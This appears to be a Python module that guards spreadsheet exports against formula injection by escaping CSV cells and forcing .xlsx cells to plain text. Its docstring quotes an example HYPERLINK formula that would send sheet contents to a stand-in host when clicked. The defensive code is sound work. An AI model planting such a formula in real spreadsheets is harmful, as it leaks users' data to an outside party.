"""Spreadsheet safety for every cell we write (security.md §2.3 E1/E2, §3.4).

Excel, WPS, LibreOffice and Sheets evaluate a cell that starts with = + - @ (or a tab or
carriage return before one) as a formula: ``=HYPERLINK("http://x/?"&A1,"看这里")`` in a plot
name would leak the sheet when a clerk clicks it. CSV text cells get a leading apostrophe
(OWASP's advice); in .xlsx the cell is stored as a string (``data_type = "s"``), so it shows
exactly what was typed and is never evaluated. Numbers stay numbers: a real -5 is not text.
"""

from __future__ import annotations

import re

from openpyxl.cell.cell import Cell

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# XML 1.0 forbids these control characters; openpyxl refuses to write them at all.
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
# Excel's limit for one cell; beyond it the file opens with a repair warning.
MAX_CELL_CHARS = 32_767


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_TRIGGERS)


def csv_text(value: object) -> object:
    """A CSV cell: text that could start a formula gets a leading ``'``; the rest as is."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def xml_safe(value: str) -> str:
    """Text XML 1.0 can hold: control characters (other than tab and newlines) removed."""
    return _ILLEGAL_XML.sub("", value)


def xlsx_text(value: str) -> str:
    """Text an .xlsx can hold: no XML control characters, within Excel's cell limit."""
    return xml_safe(value)[:MAX_CELL_CHARS]


def write_text(cell: Cell, value: str) -> None:
    """Put text in an openpyxl cell so that it stays text, whatever it starts with."""
    cell.value = xlsx_text(value)
    # openpyxl turns a value starting with "=" into a formula; forcing the type afterwards
    # stores it as a plain string (verified in security.md §2.3 E2).
    cell.data_type = "s"
